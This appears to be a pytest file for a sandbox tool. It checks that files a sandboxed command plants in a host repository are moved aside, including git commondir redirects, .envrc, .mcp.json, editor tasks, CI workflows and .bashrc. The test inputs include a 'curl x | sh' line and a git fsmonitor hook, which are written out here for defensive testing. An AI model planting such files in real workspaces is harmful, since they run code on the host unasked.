"""Protected names a run *creates* in a host work dir (they did not exist, so nothing was bound over
them) are moved aside when the run ends. Before: ``.git/commondir`` (git then reads config and hooks
from a directory of the command's choosing: code at the next host ``git status``), ``.envrc``,
``.mcp.json`` and ``.vscode/tasks.json`` stayed where the host runs them."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from toolrig.sandbox import PROTECTED_IN_WORKDIR, WORKDIR, Sandbox, SandboxLimits

LIMITS = SandboxLimits(timeout=20)


@pytest.fixture
def repo(tmp_path: Path, need_bubblewrap: None) -> Path:
    root = tmp_path / "repo"
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "config").write_text("[core]\n")
    (root / "src").mkdir()
    return root


def _run(root: Path, script: str) -> tuple[str, tuple[str, ...]]:
    box = Sandbox(backend="bubblewrap", workdir=root, protect=PROTECTED_IN_WORKDIR, limits=LIMITS)
    result = box.run_sync(["bash", "-c", script], cwd=WORKDIR)
    assert result.leftover_processes == 0
    return result.text + result.error_text, result.quarantined


def _boxes(root: Path) -> list[Path]:
    return sorted(p for p in root.iterdir() if p.name.startswith(".toolrig-quarantine-"))


@pytest.mark.parametrize(("script", "planted"), [
    ("mkdir -p evil && echo '[core] fsmonitor = id' > evil/config && echo ../evil > .git/commondir", ".git/commondir"),
    ("echo 'curl x | sh' > .envrc", ".envrc"),
    ("echo '{\"mcpServers\": {\"x\": {\"command\": \"id\"}}}' > .mcp.json", ".mcp.json"),
    ("mkdir -p .vscode && echo '{}' > .vscode/tasks.json", ".vscode"),
    ("mkdir -p .github/workflows && echo 'on: push' > .github/workflows/ci.yml", ".github/workflows"),
    ("echo 'id' > .bashrc", ".bashrc"),
    ("mkdir -p .git/worktrees/x && echo ../../evil > .git/worktrees/x/commondir", ".git/worktrees"),
])
def test_created_protected_names_are_moved_aside_and_kept(repo: Path, script: str, planted: str) -> None:
    _, moved = _run(repo, script)
    assert not os.path.lexists(repo / planted), moved
    boxes = _boxes(repo)
    assert len(boxes) == 1 and (boxes[0] / planted).exists()  # kept for review, nothing lost
    assert any(line.startswith(planted + " -> ") for line in moved), moved
    assert (repo / ".git" / "config").read_text() == "[core]\n"


def test_a_link_made_on_the_way_is_moved_itself_never_followed(repo: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    (outside / "workflows").mkdir(parents=True)
    (outside / "workflows" / "keep.yml").write_text("host file")
    # inside the sandbox the link dangles; on the host it points at `outside`
    _, moved = _run(repo, f"ln -s {outside} .github; echo end")
    assert not os.path.lexists(repo / ".github")
    assert (outside / "workflows" / "keep.yml").read_text() == "host file"  # the target was not touched
    box = _boxes(repo)[0]
    assert (box / ".github").is_symlink() and moved == (f".github -> {box.name}/.github",)


def test_what_existed_before_and_ordinary_files_stay(repo: Path) -> None:
    (repo / ".env").write_text("TOKEN=1\n")
    out, moved = _run(repo, "echo x > src/app.py && mkdir -p .config/pip && echo y > .config/pip/pip.conf && echo ok")
    assert "ok" in out and moved == () and _boxes(repo) == []
    assert (repo / "src" / "app.py").read_text() == "x\n" and (repo / ".config" / "pip" / "pip.conf").exists()
    assert (repo / ".env").read_text() == "TOKEN=1\n"


def test_without_protect_nothing_is_moved(repo: Path) -> None:
    box = Sandbox(backend="bubblewrap", workdir=repo, limits=LIMITS)
    result = box.run_sync(["bash", "-c", "echo x > .envrc"], cwd=WORKDIR)
    assert result.quarantined == () and (repo / ".envrc").exists()
